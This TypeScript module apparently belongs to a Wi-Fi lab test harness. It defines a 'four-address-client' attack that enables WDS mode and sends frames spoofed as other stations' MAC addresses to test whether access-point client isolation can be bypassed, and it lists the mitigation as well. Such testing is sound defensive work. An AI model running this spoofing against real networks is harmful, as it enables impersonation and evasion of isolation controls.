// SPDX-License-Identifier: Apache-2.0
import { broadcast, nonceFrame } from "../../lab/packet.ts";
import { must, sleep } from "../../../qemu/guest/command.ts";
import type { Attack } from "../attack.ts";
import { any, arrives, newNonce } from "../arrives.ts";
import type { Field } from "../field.ts";

/** Behind the attacker, as it says. */
const INVENTED = "02:00:00:00:99:99";
/** An access point that allows it makes an interface for the station, and the switch a port, which takes a while. */
const ATTEMPTS = 4;

async function speaksForOthers({ attacker, victim, distant }: Field): Promise<boolean> {
  const says = (from: string, as: string, to: string): Promise<boolean> => {
    const nonce = newNonce();
    return arrives(attacker, nonceFrame({ from, to }, as, victim.v4, nonce), victim, nonce);
  };
  return any(says(distant.mac, distant.v4, victim.mac), says(INVENTED, attacker.v4, victim.mac), says(INVENTED, attacker.v4, broadcast));
}

export const fourAddressClient: Attack = {
  slug: "four-address-client",
  needs: "a key of its own; a radio that sends frames with four addresses (WDS), as wireless bridges do",
  gains: "speaks from any number of MAC addresses, others' included, behind one station; isolation of stations does not cover the interface that WDS makes",
  stoppedBy: "wds off at the access point, which drops frames with a fourth address; the interface of such a station is no port of the switch",
  run: async (field) => {
    const { attacker } = field;
    const fourAddresses = (word: "on" | "off"): Promise<string> => must(["ip", "netns", "exec", attacker.namespace, "iw", "dev", attacker.device, "set", "4addr", word]);
    await fourAddresses("on");
    try {
      for (let i = 0; i < ATTEMPTS; i++) {
        if (await speaksForOthers(field)) return true;
        await sleep(300);
      }
      return false;
    } finally {
      await fourAddresses("off");
      await attacker.join();
      await attacker.restore();
    }
  },
};
